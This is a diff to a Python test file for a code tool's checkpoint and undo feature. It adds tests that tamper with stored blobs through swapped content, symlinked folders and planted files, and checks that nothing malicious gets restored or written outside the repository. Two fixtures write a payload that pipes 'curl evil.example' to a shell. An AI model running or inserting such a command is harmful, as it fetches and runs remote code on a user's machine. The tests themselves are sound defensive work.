@@ -8,6 +8,7 @@ import asyncio
 import hashlib
 import json
 import os
+import shutil
 import stat
 from pathlib import Path
 from typing import Callable
@@ -195,7 +196,7 @@ def test_a_swapped_blob_refuses_the_restore_before_anything_is_written(tmp_path,
     clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
     run_id, _ = _genuine_run(clone)
     digest = hashlib.sha256(CART.encode()).hexdigest()
-    blob = clone / ".codegen" / "runs" / run_id / "checkpoints" / "objects" / digest[:2] / digest[2:]
+    blob = clone / ".codegen" / "objects" / digest[:2] / digest[2:]  # every run's blobs, shared
     blob.chmod(0o644)
     if damage == "swapped":
         blob.write_text("import os\nos.system('curl evil.example | sh')\n")
@@ -278,22 +279,51 @@ async def test_the_daemon_reports_links_it_did_not_create(tmp_path, scripted_mod
     assert outside.changes() == []
 
 
-def test_a_symlinked_blob_folder_gets_nothing_written_through_it(tmp_path):
+@pytest.mark.parametrize("own_too", [False, True])
+def test_a_symlinked_blob_folder_gets_nothing_written_through_it(tmp_path, own_too):
     clone, outside = hostile_clone(tmp_path, lambda repo, _: make_python_project(repo))
-    run_id, _ = _genuine_run(clone)
-    # The state an undo checkpoints first holds this new file; its blob's folder now leads outside.
+    run_id, start = _genuine_run(clone)
+    # The state an undo checkpoints first holds this new file; its blob's shared folder now leads
+    # outside (and, with own_too, so does the run's own folder, where blobs go when the shared one can't).
     new = b"written since the run\n"
     (clone / "notes.txt").write_bytes(new)
     digest = hashlib.sha256(new).hexdigest()
-    folder = clone / ".codegen" / "runs" / run_id / "checkpoints" / "objects" / digest[:2]
-    if folder.exists():
-        for blob in folder.iterdir():
-            blob.unlink()
-        folder.rmdir()
-    os.symlink(outside.folder / "notes", folder)
+    folders = [clone / ".codegen" / "objects" / digest[:2]]
+    if own_too:
+        folders.append(clone / ".codegen" / "runs" / run_id / "checkpoints" / "objects" / digest[:2])
+    for number, folder in enumerate(folders):
+        if folder.exists():
+            shutil.rmtree(folder)
+        folder.parent.mkdir(parents=True, exist_ok=True)
+        (outside.folder / f"notes{number}").mkdir()
+        os.symlink(outside.folder / f"notes{number}", folder)
+    outside.snapshot()  # with the folders the links lead to: a blob written through one shows
     before = _workspace(clone)
 
     undone = _undo(clone, run_id)
-    assert undone.returncode == 1 and "Traceback" not in undone.stderr, undone.stderr
-    assert f"{folder} is a symbolic link" in undone.stderr, undone.stderr
-    assert _workspace(clone) == before and outside.changes() == []
+    assert "Traceback" not in undone.stderr, undone.stderr
+    assert all(f"{folder}: is a symbolic link" in undone.stderr for folder in folders), undone.stderr
+    assert outside.changes() == []
+    if own_too:  # nowhere to keep the state before the undo: nothing is undone
+        assert undone.returncode == 1 and _workspace(clone) == before
+    else:  # the run's own folder keeps that blob, and the undo goes through (and can be undone)
+        assert undone.returncode == 0 and _workspace(clone) == start, undone.stderr
+        assert (clone / ".codegen" / "runs" / run_id / "checkpoints" / "objects" / digest[:2] / digest[2:]).read_bytes() == new
+
+
+def test_a_planted_shared_blob_is_never_taken_for_the_file_it_is_named_after(tmp_path):
+    # The clone ships a blob under the digest of one of its own files, holding something else: a
+    # checkpoint that took it on trust would put that back on undo.
+    def plant(repo: Path, _outside: Path) -> None:
+        make_python_project(repo)
+        digest = hashlib.sha256((repo / "shop/cart.py").read_bytes()).hexdigest()
+        folder = repo / ".codegen" / "objects" / digest[:2]
+        folder.mkdir(parents=True)
+        (folder / digest[2:]).write_text("import os\nos.system('curl evil.example | sh')\n")
+
+    clone, outside = hostile_clone(tmp_path, plant)
+    run_id, start = _genuine_run(clone)
+    undone = _undo(clone, run_id)
+    assert undone.returncode == 0, undone.stderr
+    assert _workspace(clone) == start and b"evil" not in (clone / "shop/cart.py").read_bytes()
+    assert outside.changes() == []
